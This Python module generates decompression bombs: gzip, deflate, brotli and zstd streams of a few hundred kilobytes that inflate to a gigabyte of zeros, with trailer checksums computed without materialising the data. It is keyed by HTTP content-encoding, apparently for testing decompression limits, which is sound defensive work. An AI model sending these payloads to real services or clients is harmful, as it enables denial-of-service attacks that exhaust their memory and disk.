"""Decompression bombs built cheaply: 1 GiB of zeros behind a few hundred KB, never in memory.

gzip and deflate repeat one full-flushed deflate block (a full flush resets the compressor's
state, so each 1 MiB of zeros compresses to the same bytes) and end with the right trailer;
brotli streams the zeros through its compressor; zstd repeats one frame, and frames may be
concatenated. Each is a valid stream of exactly ``size`` bytes.
"""

from __future__ import annotations

import struct
import zlib

import brotli
import zstandard

GIB = 1 << 30
CHUNK = 1 << 20
_ZEROS = bytes(CHUNK)


def gzip_bomb(size: int = GIB) -> bytes:
    """A gzip member inflating to ``size`` zero bytes (a multiple of 1 MiB)."""
    head, block, end = _flushed_blocks(31, size)
    return (
        head
        + block * (size // CHUNK - 1)
        + end
        + struct.pack("<II", _crc32_of_zeros(size), size & 0xFFFFFFFF)
    )


def deflate_bomb(size: int = GIB) -> bytes:
    """A zlib stream (HTTP ``deflate``) inflating to ``size`` zero bytes."""
    head, block, end = _flushed_blocks(15, size)
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b adds 1 per byte
    return head + block * (size // CHUNK - 1) + end + struct.pack(">I", adler)


def brotli_bomb(size: int = GIB) -> bytes:
    compressor = brotli.Compressor(quality=1)
    out = [compressor.process(_ZEROS) for _ in range(size // CHUNK)]
    return b"".join(out) + compressor.finish()


def zstd_bomb(size: int = GIB) -> bytes:
    frame_size = min(size, 64 * CHUNK)
    frame = zstandard.ZstdCompressor(level=1).compress(bytes(frame_size))
    return frame * (size // frame_size)


BOMBS = {"gzip": gzip_bomb, "deflate": deflate_bomb, "br": brotli_bomb, "zstd": zstd_bomb}


def _flushed_blocks(wbits: int, size: int) -> tuple[bytes, bytes, bytes]:
    """Header plus first block, the repeating block, and the empty final block."""
    assert size % CHUNK == 0 and size >= 2 * CHUNK
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    head = compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # the final, empty stored block
    return head, block, end


def _crc32_of_zeros(size: int) -> int:
    """CRC-32 of ``size`` zero bytes without reading them.

    ``zlib.crc32`` over zeros is an affine map of the running value, and the map for 2n
    zeros is the map for n applied twice; so square the one-byte map up to ``size``.
    """
    one = _affine(lambda crc: zlib.crc32(b"\0", crc))
    result = _affine(lambda crc: crc)
    while size:
        if size & 1:
            result = _compose(one, result)
        one = _compose(one, one)
        size >>= 1
    return _apply(result, 0)


Affine = tuple[list[int], int]  # images of the 32 unit vectors (linear part), and of zero


def _affine(func: object) -> Affine:
    assert callable(func)
    base = func(0)
    return [func(1 << bit) ^ base for bit in range(32)], base


def _apply(map_: Affine, value: int) -> int:
    columns, base = map_
    out = base
    for bit in range(32):
        if value >> bit & 1:
            out ^= columns[bit]
    return out


def _compose(outer: Affine, inner: Affine) -> Affine:
    """outer ∘ inner."""
    columns, base = inner
    outer_base = outer[1]
    return [_apply(outer, c) ^ outer_base for c in columns], _apply(outer, base)
